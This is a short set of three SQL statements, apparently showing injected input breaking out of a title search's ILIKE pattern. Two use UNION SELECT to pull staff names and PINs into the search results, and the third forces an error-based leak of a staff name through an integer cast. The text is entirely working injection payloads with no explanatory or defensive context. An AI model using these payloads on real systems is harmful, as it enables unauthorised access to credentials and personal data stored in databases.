SELECT id, title FROM objects WHERE title ILIKE '%x' UNION SELECT name, pin FROM staff --%'
;
SELECT id, title FROM objects WHERE title ILIKE '%x' UNION SELECT 0, name || ' ' || pin FROM staff --%'
;
SELECT id, title FROM objects WHERE title ILIKE '%x' AND 1 = (SELECT name FROM staff)::integer --%'
;
